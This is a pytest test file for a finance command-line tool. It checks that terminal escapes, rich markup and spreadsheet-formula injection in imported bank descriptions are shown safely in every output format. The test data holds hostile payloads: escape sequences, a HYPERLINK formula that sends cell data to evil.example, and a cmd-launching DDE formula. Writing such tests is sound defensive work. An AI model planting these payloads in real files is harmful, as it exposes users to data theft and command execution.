"""What the data holds never drives the terminal or a spreadsheet, and tables stay usable.

Every test imports a real bank CSV through `fin import` and reads it back through
`fin transactions`, the way a user would. A table on a terminal is forced with rich's own
switch (`TTY_COMPATIBLE=1`, width from `COLUMNS`); without it, stdout is not a terminal.
"""

import csv
import io
import json
import re
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from fincli.output import Format, render, render_one

SGR = re.compile(r"\x1b\[[0-9;]*m")                      # rich's own styling on a terminal
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")   # but \t and \n
FILLER = [f"Grocery store purchase number {n} at the corner shop on Main Street" for n in range(60)]


def write_export(path: Path, descriptions: list[str], filler: int = 40) -> Path:
    """A bank CSV: the given descriptions (newest last) after `filler` ordinary rows."""
    rows = [(f"2023-11-{1 + n % 28:02d}", FILLER[n % len(FILLER)], f"-{n + 1}.{n % 100:02d}") for n in range(filler)]
    rows += [(f"2024-01-{1 + n % 28:02d}", text, f"-{100 + n}.25") for n, text in enumerate(descriptions)]
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["Date", "Description", "Amount", "Currency"])
        writer.writerows(row + ("USD",) for row in rows)
    return path


def imported(fin, tmp_path, descriptions, filler=40):
    result = fin("import", write_export(tmp_path / "checking.csv", descriptions, filler), "--no-services")
    assert result.exit_code == 0, result.stderr
    return json.loads(fin("transactions", "--format", "json").stdout)


@pytest.fixture
def terminal(monkeypatch):
    """stdout counts as an 80-column terminal."""
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("TERM", "xterm-256color")


# 1 -------------------------------------------------------------------------------------------

def test_rich_markup_in_a_description_is_shown_not_parsed(fin, tmp_path, terminal, capsys):
    imported(fin, tmp_path, ["Refund [/adjustment]", "Amazon [order 123-456] Marketplace", "[bold red]:smile:"],
             filler=3)
    result = fin("transactions", "--search", "[")
    assert result.exit_code == 0
    shown = SGR.sub("", result.stdout)
    assert "Refund [/adjustment]" in shown and "[bold red]:smile:" in shown
    assert "Amazon [order 123-456] Mar…" in shown            # cut by the width, not by markup
    render([{"a": "x"}], ["a"], Format.table, title="[/oops] report")
    render_one({"[/key]": "[/adjustment] [bold]", "path": "/a/" + "long" * 30}, Format.table)
    out = SGR.sub("", capsys.readouterr().out)
    assert "[/oops] report" in out and "[/key]" in out and "[/adjustment] [bold]" in out
    assert "long" * 15 in out.replace("\n", "")              # a long value wraps, it is not cut


# 2 -------------------------------------------------------------------------------------------

HOSTILE = "Evil \x1b]0;pwned\x07 \x1b[31mred\x1b[0m \x1b[2J \u202eevil\u202c"


def test_terminal_escapes_in_data_are_shown_visibly_everywhere_but_json_keeps_them_exactly(
        fin, tmp_path, monkeypatch):
    listed = imported(fin, tmp_path, [HOSTILE], filler=40)
    assert HOSTILE in [t["description"] for t in listed]                     # JSON is exact
    visible = r"Evil \x1b]0;pwned\x07 \x1b[31mred\x1b[0m \x1b[2J \u202eevil\u202c"
    piped = fin("transactions").stdout
    exported = fin("transactions", "--format", "csv").stdout
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    monkeypatch.setenv("TERM", "dumb")                     # a terminal, but rich adds no styling codes
    table = fin("transactions", "--search", "Evil").stdout   # TERM=dumb: 80 columns, the text is cut
    for out in (piped, exported, table):
        assert not RAW_CONTROL.search(out)
    assert visible in piped and visible in exported and r"Evil \x1b]0;pwned\x07" in table
    missing = fin("import", tmp_path / "\x1b[2Jgone.csv")                   # a message quoting data
    assert missing.exit_code == 1 and "\x1b" not in missing.stderr and r"\x1b[2Jgone.csv" in missing.stderr


# 3 -------------------------------------------------------------------------------------------

def test_csv_text_cells_cannot_run_as_formulas_and_amounts_stay_numbers(fin, tmp_path):
    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
                "-2+3+cmd", "=1+1"]
    imported(fin, tmp_path, formulas, filler=3)
    rows = list(csv.DictReader(io.StringIO(fin("transactions", "--format", "csv").stdout)))
    by_description = {r["description"]: r for r in rows}
    for text in formulas:
        assert "'" + text in by_description                                  # shown, but as text
    for row in rows:
        for column in ("description", "merchant", "account", "category", "import_id", "id"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
        assert re.fullmatch(r"-?\d+\.\d\d", row["amount"])                   # numeric, unprefixed
    assert by_description["'=1+1"]["amount"] == "-104.25"


# 4 -------------------------------------------------------------------------------------------

def test_an_80_column_table_keeps_ids_amounts_and_dates_whole_on_one_line(fin, tmp_path, terminal):
    long = "A very long description of a purchase at the large supermarket downtown, store 1234, aisle 7"
    listed = imported(fin, tmp_path, [long, "Payroll ACME Corporation International Holdings"], filler=45)
    result = fin("transactions", "--limit", "0")
    lines = SGR.sub("", result.stdout).splitlines()
    assert all(len(line) <= 80 for line in lines)
    body = [line for line in lines[2:] if line.strip()]
    assert len(body) == len(listed)                                          # one line per transaction
    for transaction in listed:
        line = next(line for line in body if line.startswith(transaction["id"] + " "))
        assert f" {transaction['date']} " in line and f" {transaction['amount']} " in line
    assert next(line for line in body if "  A very long desc" in line).rstrip().endswith("…")   # cut


def test_a_piped_table_is_one_tab_separated_line_per_transaction(fin, tmp_path):
    listed = imported(fin, tmp_path, ["Line one\nline two", "Tab\there"], filler=45)
    lines = fin("transactions").stdout.splitlines()
    assert lines[0].split("\t") == ["id", "date", "account", "amount", "currency", "description", "category"]
    assert len(lines) == 1 + len(listed)
    fields = {line.split("\t")[0]: line.split("\t") for line in lines[1:]}
    assert all(len(f) == 7 for f in fields.values())
    for transaction in listed:
        assert fields[transaction["id"]][1:5] == [transaction["date"], "checking", transaction["amount"], "USD"]
    assert {r"Line one\x0aline two", r"Tab\x09here"} <= {f[5] for f in fields.values()}
    dates = [f[1] for f in fields.values()]
    assert dates == sorted(dates, reverse=True)                              # newest first


# 5 -------------------------------------------------------------------------------------------

def test_a_terminal_table_shows_the_newest_50_and_says_how_many_more(fin, tmp_path, terminal):
    listed = imported(fin, tmp_path, [f"Shop {n}" for n in range(12)], filler=560)
    newest = sorted(listed, key=lambda t: t["date"], reverse=True)
    result = fin("transactions")
    body = [line for line in SGR.sub("", result.stdout).splitlines()[2:] if line.strip()]
    assert len(body) == 50 and body[0].split()[1] == newest[0]["date"]
    assert f"… {len(listed) - 50:,} more; use --limit 0 for all" in result.stderr
    everything = fin("transactions", "--limit", "0")                         # more than one batch
    lines = SGR.sub("", everything.stdout).splitlines()
    assert sum(1 for line in lines if line.startswith("id ")) == 1            # one header
    assert len([line for line in lines[2:] if line.strip()]) == len(listed) and "more" not in everything.stderr
    few = json.loads(fin("transactions", "--limit", "3", "--format", "json").stdout)
    assert [t["id"] for t in few] == [t["id"] for t in listed[-3:]]          # the newest, in date order
    assert set(few[0]) == set(listed[0])                                     # the JSON fields are unchanged
    piped = fin("transactions", "--format", "csv")
    assert len(piped.stdout.splitlines()) == 1 + len(listed) and piped.stderr == ""


# 6 -------------------------------------------------------------------------------------------

PIECES = ["[/adjustment]", "[bold]", "[order 123-456]", "\x1b]0;pwned\x07", "\x1b[31m", "\x1b[2J", "\x1b[0m",
          "\x9b2J", "\x7f", "\u202e", "\u2066", "=HYPERLINK(\"http://x\")", "+1", "-1+", "@SUM(A1)", "\t", "\r\n",
          "\n", "\\", ":smile:", "€", "日本語", "é", "\"quoted\"", ",", ";"]
piece = st.one_of(st.sampled_from(PIECES),
                  st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12))
description = (st.builds(lambda parts, tail: "".join(parts) + tail, st.lists(piece, min_size=1, max_size=6),
                         st.one_of(st.just(""), st.text(st.characters(min_codepoint=32, max_codepoint=0x2FFF,
                                                                      blacklist_categories=("Cs",)),
                                                        min_size=200, max_size=600)))
               .filter(lambda s: s.strip() == s and s != ""                    # the importer trims cells
                       and sum(1 for c in s if RAW_CONTROL.match(c) or c == "\n") <= 12))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(descriptions=st.lists(description, min_size=1, max_size=3))
def test_random_descriptions_survive_import_and_every_output_format(fin, descriptions):
    with tempfile.TemporaryDirectory() as tmp:
        fin.home = Path(tmp) / "ws"
        listed = imported(fin, Path(tmp), descriptions, filler=50)
        assert set(descriptions) <= {t["description"] for t in listed}       # JSON round-trips exactly
        outputs = [fin("transactions"), fin("transactions", "--format", "csv")]
        with pytest.MonkeyPatch.context() as env:
            env.setenv("TTY_COMPATIBLE", "1")
            env.setenv("TERM", "dumb")
            outputs.append(fin("transactions", "--limit", "0"))
        for result in outputs:
            assert result.exit_code == 0
            assert not RAW_CONTROL.search(result.stdout)
        for row in csv.DictReader(io.StringIO(outputs[1].stdout)):
            for column in ("description", "merchant", "account"):
                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]


def test_search_finds_the_text_as_typed_not_as_a_pattern(fin, tmp_path):
    export = tmp_path / "checking.csv"
    export.write_text("Date,Description,Amount\n2024-01-02,COFFEE 50% OFF,-3.00\n2024-01-03,BOOKSHOP,-12.00\n"
                      "2024-01-04,A_B MARKET,-7.00\n2024-01-05,AXB MARKET,-8.00\n2024-01-06,PATH C:\\TEMP,-1.00\n",
                      encoding="utf-8")
    assert fin("import", export, "--no-services").exit_code == 0

    def found(text):
        return sorted(t["description"] for t in json.loads(fin("transactions", "--search", text, "-f", "json").stdout))

    assert found("50%") == ["COFFEE 50% OFF"]
    assert found("%") == ["COFFEE 50% OFF"]
    assert found("A_B") == ["A_B MARKET"]
    assert found("C:\\T") == ["PATH C:\\TEMP"]
    assert found("market") == ["AXB MARKET", "A_B MARKET"]
